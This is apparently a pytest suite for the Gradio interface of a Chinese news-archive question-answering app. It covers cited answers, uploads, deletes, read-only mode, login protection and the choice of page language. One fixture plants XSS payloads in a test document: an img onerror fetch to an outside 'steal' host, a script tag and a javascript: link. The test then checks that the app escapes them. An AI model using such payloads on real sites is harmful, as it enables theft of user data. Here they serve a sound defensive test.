"""The Gradio side of the real app (create_app on 127.0.0.1), queried with gradio_client and httpx."""

from __future__ import annotations

import contextlib
import html
import logging
import re

import httpx
import pytest

from rag import build_index

from .serving import PASSWORD, USER, fresh_index, serve

gr = pytest.importorskip("gradio")
gradio_client = pytest.importorskip("gradio_client")
Client, handle_file = gradio_client.Client, gradio_client.handle_file
QUESTION = "智慧岛核心区签约入驻了多少家企业？"


@pytest.fixture(scope="module")
def server(lexical_index):
    with serve(lexical_index) as s:
        yield s


def _messages(result) -> list:
    """The chat after an /ask call: the endpoint returns (chatbot, textbox)."""
    return result[0] if isinstance(result, (list, tuple)) and result and isinstance(result[0], list) else result


def _content(content) -> str:
    """A message's text: a string, or a list of parts ({"type": "text", "text": ...})."""
    if isinstance(content, list):
        return "".join(_content(part) for part in content)
    if isinstance(content, dict):
        return str(content.get("text", ""))
    return str(content or "")


def _last_answer(result) -> str:
    """Text (and panel titles) of the messages after the last question."""
    messages = _messages(result)
    last_user = max((i for i, m in enumerate(messages) if m.get("role") == "user"), default=-1)
    return "\n".join(
        _content(m.get("content")) + " " + str((m.get("metadata") or {}).get("title", "")) for m in messages[last_user + 1 :]
    )


@contextlib.contextmanager
def _client(server, **kwargs):
    client = Client(server.url, verbose=False, **kwargs)
    try:
        yield client
    finally:
        client.close()  # its heartbeat stream would otherwise hold the server's shutdown


def _ask(server, question, *extra, client=None):
    if client is None:
        with _client(server) as client:
            return _last_answer(client.predict(question, *extra, api_name="/ask"))
    return _last_answer(client.predict(question, *extra, api_name="/ask"))


def test_ask_endpoint_returns_a_cited_answer_with_its_source(server):
    text = _ask(server, QUESTION)
    assert "359" in text and "[1]" in text and 'href="#cite-0-1"' in text
    assert "002_d930b353b5af356e.txt" in html.unescape(text)
    assert "示范区:真抓实干求突破 全力以赴谋发展" in html.unescape(text)
    assert "记者 姬慧洋" in text
    assert "在 1 篇文章中找到" in text and "来源" in text
    assert "检索过程" in text and "关键词名次" in text  # the folded "how this was found" view


def test_out_of_domain_question_says_not_found(server):
    assert "资料中没有找到相关内容" in _ask(server, "火星有几颗卫星？")
    text = _ask(server, "周口的人口有多少？")  # shares a word with the archive, but is not answered by it
    assert "资料中没有找到相关内容" in text and "可能相关" in text and "[1]" not in text


def test_empty_and_huge_messages(server):
    assert "请输入您的问题" in _ask(server, "   ")
    text = _ask(server, "智慧岛" * 20_001)  # 60,003 characters: cut, answered, and said so
    assert "问题过长，只使用了前 2000 个字" in text


def test_settings_filter_sources_and_fall_back_from_dense(server):
    text = html.unescape(_ask(server, "停车位", 3, "dense", ["001_39b2f5fd87845c7e.txt"]))
    assert "001_39b2f5fd87845c7e.txt" in text
    assert "000_511f53cd465d0282.txt" not in text
    assert "关键词（jieba + BM25）" in text  # the mode actually used, in the "how this was found" view


def test_two_turn_follow_up_through_the_api(server):
    with _client(server) as client:
        first = _ask(server, "黄淮市场和麒麟建材城是怎么治理的？", client=client)
        second = _ask(server, "那里新建了多少个停车位？", client=client)  # the server keeps the session's history
    assert "黄淮市场" in first
    answer_part = re.sub(r"<[^>]+>", "", second.split("来源")[0])
    assert "停车位325个" in answer_part
    assert "追问按上文一起检索" in second


def test_english_question_gets_english_ui_text(server):
    text = _ask(server, "How many enterprises signed up in the Smart Island core area?")
    assert "Nothing in the archive answers this question." in text
    assert "try asking in Chinese" in text  # the dense leg is off: say why an English question cannot match
    for chinese in ("资料中没有找到", "可能相关", "检索过程", "来源"):
        assert chinese not in text


def test_concurrent_users_are_served(server):
    import concurrent.futures

    questions = ["许寨社区有多少名党员？", "文昌办事处发放了多少份宣传单？", "开发区排查了多少户自建房？", QUESTION]
    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        answers = list(pool.map(lambda q: _ask(server, q), questions))
    assert all("[1]" in a for a in answers)
    assert server.app.state.demo._queue.default_concurrency_limit >= 4


def test_retrieval_error_shows_an_apology_and_is_logged(server, monkeypatch, caplog):
    def broken(*args, **kwargs):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(server.index, "search", broken)  # what a question reads through
    with caplog.at_level(logging.ERROR):
        text = _ask(server, QUESTION)
    assert "抱歉" in text
    assert "disk on fire" in caplog.text and "Traceback" in caplog.text
    monkeypatch.undo()
    assert "[1]" in _ask(server, QUESTION), "the app keeps running"


MALICIOUS = """恶意测试稿件
本报讯（记者 测试）智慧岛测试稿件里有一张图片<img src=x onerror="fetch('http://203.0.113.9/steal')">和一段脚本<script>window.__xss=1</script>，还有[链接](javascript:alert(1))和![图](http://203.0.113.9/p.png)。它们都只能显示为文字。
"""


@pytest.fixture(scope="module")
def xss_index(tmp_path_factory):
    docs = tmp_path_factory.mktemp("xss-docs")
    (docs / "evil.txt").write_text(MALICIOUS, encoding="utf-8")
    return build_index(docs, tmp_path_factory.mktemp("xss") / "index", model="none", progress=False)


def test_malicious_passage_is_escaped_in_the_answer(xss_index):
    with serve(xss_index) as s:
        text = _ask(s, "智慧岛测试稿件里有什么？")
    assert "<img" not in text and "<script" not in text
    assert "&#60;img" in text and "&#60;script&#62;" in text
    assert "&#91;链接&#93;(javascript&#58;" in text  # markdown links/images inert
    assert "](" not in text and "![" not in text
    assert "http://" not in text  # no bare URL either: the chat's markdown would make it a clickable link


# --- the library through the UI's endpoints ------------------------------------------------------------


NEW_DOC = "口袋公园扮靓川汇区\n本报讯（记者 张三）川汇区今年新建了12座口袋公园，总面积达到3.6万平方米。\n"


def test_upload_and_delete_through_the_ui_endpoints(tmp_path):
    index = fresh_index(tmp_path)
    doc = tmp_path / "口袋公园.txt"
    doc.write_text(NEW_DOC, encoding="utf-8")
    junk = tmp_path / "scan.txt"
    junk.write_bytes(b"%PDF-1.4\x00\x01\x02 not really")
    with serve(index) as s, _client(s) as client:
        results, table, *_ = client.predict([handle_file(str(doc)), handle_file(str(junk))], api_name="/upload")
        outcome = {row[0]: row for row in results["data"]}
        assert outcome["口袋公园.txt"][1] == "✓ 已添加" and "1 篇文章" in outcome["口袋公园.txt"][2]
        assert outcome["scan.txt"][1] == "✗ 已拒绝"
        assert "口袋公园.txt" in [row[0] for row in table["data"]]
        assert "12座口袋公园" in _ask(s, "川汇区今年新建了多少座口袋公园？")
        message, *_ = client.predict("口袋公园.txt", api_name="/delete_document")
        assert "已删除" in message
        assert "12座口袋公园" not in _ask(s, "川汇区今年新建了多少座口袋公园？")
        message, *_ = client.predict("002_d930b353b5af356e.txt", api_name="/delete_document")
        assert "文档目录" in message  # folder documents are removed by deleting the file
    assert [p.name for p in (index.folder / "files").iterdir()] == []  # the stored copy went with the delete


def test_upload_reports_progress_file_by_file(tmp_path):
    """The results table streams: each file is shown 处理中 while the next ones wait, then its outcome."""
    index = fresh_index(tmp_path)
    files = []
    for n in range(3):
        doc = tmp_path / f"公园{n}.txt"
        doc.write_text(NEW_DOC.replace("12座", f"{n + 20}座"), encoding="utf-8")
        files.append(handle_file(str(doc)))
    with serve(index) as s, _client(s) as client:
        job = client.submit(files, api_name="/upload")
        job.result(timeout=120)
        steps = [[row[1] for row in out[0]["data"]] for out in job.outputs()]
    assert ["… 处理中", "· 排队中", "· 排队中"] in steps
    assert ["✓ 已添加", "… 处理中", "· 排队中"] in steps
    assert steps[-1] == ["✓ 已添加"] * 3


def test_read_only_ui_endpoints_refuse_changes(lexical_index, tmp_path):
    doc = tmp_path / "a.txt"
    doc.write_text(NEW_DOC, encoding="utf-8")
    with serve(lexical_index, lexical_index.settings.with_(read_only=True, watch_seconds=0)) as s, _client(s) as client:
        results, table, *_ = client.predict([handle_file(str(doc))], api_name="/upload")
        assert "只读模式" in results["data"][0][2] and len(table["data"]) == 5
        message, *_ = client.predict("002_d930b353b5af356e.txt", api_name="/delete_document")
        assert "只读模式" in message
        assert len(lexical_index.documents()) == 5


# --- nothing about the archive before login ---------------------------------------------------------------

PUBLIC_PATHS = [
    "/", "/config", "/config/", "/gradio_api/info", "/gradio_api/info/", "/gradio_api/openapi.json", "/openapi.json",
    "/gradio_api/app_id", "/gradio_api/user", "/gradio_api/token", "/gradio_api/login_check",
    "/gradio_api/startup-events", "/gradio_api/runs", "/gradio_api/queue/status", "/gradio_api/deep_link?session_hash=x",
    "/theme.css", "/gradio_api/theme.css", "/manifest.json", "/robots.txt", "/monitoring", "/monitoring/summary",
    "/api", "/api/docs", "/api/openapi.json", "/api/v1/health", "/api/v1/info", "/api/v1/documents",
    "/api/v1/retrieve?q=智慧岛", "/api/v1/documents/002_d930b353b5af356e.txt/articles", "/login",
]


def _archive_secrets(index) -> list[str]:
    info = index.info()
    heads = {a.title for a in index.articles() if len(a.title) >= 6}
    return sorted(index.sources()) + sorted(heads) + [f"文本块 {info.chunks} 个", f"文章 {info.articles} 篇", "359家企业"]


def test_nothing_about_the_archive_is_visible_before_login(lexical_index):
    secrets = _archive_secrets(lexical_index)
    assert "002_d930b353b5af356e.txt" in secrets and "示范区:真抓实干求突破 全力以赴谋发展" in secrets
    with serve(lexical_index, auth=[(USER, PASSWORD)]) as s, httpx.Client(base_url=s.url.rstrip("/"), timeout=30) as c:
        pages = {path: c.get(path) for path in PUBLIC_PATHS}
        pages["POST /gradio_api/queue/join"] = c.post("/gradio_api/queue/join", json={"fn_index": 0, "data": [],
                                                                                   "session_hash": "x"})
        pages["POST /gradio_api/call/ask"] = c.post("/gradio_api/call/ask", json={"data": [QUESTION, 5, "hybrid", []]})
        for path, response in pages.items():
            leaked = [x for x in secrets if x in response.text or x in html.unescape(response.text)]
            assert not leaked, f"{path} ({response.status_code}) shows {leaked[:3]}"
        assert pages["/"].status_code == 200 and "auth_required" in pages["/"].text  # the login page itself
        assert pages["/api/v1/info"].status_code == 401 and pages["/gradio_api/info"].status_code == 401
        # gradio_client refuses while fetching the config or on predict, with an error type that varies by version
        with pytest.raises(Exception), _client(s) as anonymous:  # noqa: B017
            anonymous.predict(QUESTION, api_name="/ask")

        # Signed in, the page config still holds no archive data: it is fetched per request after load.
        c.post("/login", data={"username": USER, "password": PASSWORD})
        for path in ("/", "/config", "/gradio_api/info"):
            response = c.get(path)
            assert response.status_code == 200
            assert not [x for x in secrets if x in response.text], path
        with _client(s, auth=(USER, PASSWORD)) as signed_in:
            assert "359" in _ask(s, QUESTION, client=signed_in)


def test_library_table_counts_shared_articles_now_and_speaks_the_browsers_language(tmp_path):
    """A copy's "also in other documents" note goes when the other one is deleted; an English browser gets English."""
    index = fresh_index(tmp_path)
    first, copy = tmp_path / "公园.txt", tmp_path / "公园-副本.txt"
    first.write_text(NEW_DOC, encoding="utf-8")
    copy.write_text(NEW_DOC, encoding="utf-8")
    with serve(index) as s, _client(s) as client:
        client.predict([handle_file(str(first))], api_name="/upload")
        _, table, summary, *_ = client.predict([handle_file(str(copy))], api_name="/upload")
        rows = {row[0]: row for row in table["data"]}
        assert rows["公园-副本.txt"][-1] == "正常（1 篇也见于其他文档，只存一份）"
        info = index.info()
        assert f"{info.articles} 篇文章" in summary and f"{info.chunks} 个文本块" in summary  # the header's numbers
        message, table, *_ = client.predict("公园.txt", api_name="/delete_document")
        assert "已删除" in message
        rows = {row[0]: row for row in table["data"]}
        assert "公园.txt" not in rows and rows["公园-副本.txt"][-1] == "正常"  # nothing shares its article any more
        message, *_ = client.predict("公园.txt", api_name="/delete_document")  # again: it is gone, said plainly
        assert "已经没有" in message and "python -m rag" not in message
    with serve(index) as s, _client(s, headers={"Accept-Language": "en-US,en;q=0.9"}) as client:
        results, table, summary, *_ = client.predict([handle_file(str(first))], api_name="/upload")
        assert results["headers"] == ["File", "Result", "Details"] and results["data"][0][1] == "✓ added"
        assert table["headers"][:3] == ["Name", "Type", "Pages"] and "documents" in summary
        rows = {row[0]: row for row in table["data"]}
        assert rows["公园.txt"][6] == "uploaded" and rows["002_d930b353b5af356e.txt"][6] == "docs folder"
        message, *_ = client.predict("002_d930b353b5af356e.txt", api_name="/delete_document")
        assert "docs folder" in message


@pytest.mark.parametrize("header, lang", [
    ("zh-CN,zh;q=0.9,en;q=0.8", "zh"), ("en-US,en;q=0.9", "en"), ("en;q=0.5,zh-TW;q=0.9", "zh"),
    ("fr-FR,fr;q=0.9", "en"), ("", "zh"), (None, "zh"), ("*", "zh"),
])
def test_page_language_follows_the_browser(header, lang):
    from rag.lang import page_language

    assert page_language(header) == lang


def test_upload_progress_names_the_stage_count_and_estimate():
    from rag import progress
    from rag.ui import step_text

    steps = []
    with progress.watching(steps.append):
        progress.begin(progress.Stage.OCR, 3)
        progress.advance(progress.Stage.OCR)
        progress.begin(progress.Stage.EMBED, 120)
        progress.advance(progress.Stage.EMBED, 45)
    progress.advance(progress.Stage.EMBED)  # nobody watches any more: nothing is reported
    assert [(s.stage.value, s.done, s.total) for s in steps] == [("ocr", 0, 3), ("ocr", 1, 3), ("embed", 0, 120),
                                                                 ("embed", 45, 120)]
    assert steps[0].eta_s is None and steps[1].eta_s is not None and steps[1].eta_s >= 0
    started = steps[0].stage_s  # any start: only the words matter here
    assert step_text(steps[1], 0.0, "zh").startswith("OCR 第 2/3 页 · 已用")  # the page being read
    assert step_text(steps[3], 0.0, "zh").startswith("向量化 45/120 · 已用")
    assert step_text(steps[3], 0.0, "en").startswith("embedding 45/120 · ")
    assert step_text(None, started, "zh") == "读取"


def test_start_up_warms_the_part_of_jieba_a_follow_up_needs(lexical_index, monkeypatch):
    from rag.server import create_app
    from rag.tokenizer import Tokenizer

    fresh = Tokenizer()  # the shared one may have been warmed by any earlier test
    monkeypatch.setattr(lexical_index, "tokenizer", fresh)
    assert fresh._pos is None
    create_app(lexical_index, lexical_index.settings.with_(watch_seconds=0))
    assert fresh._pos is not None  # loaded at start, not by the first follow-up (about 0.6 s of it)
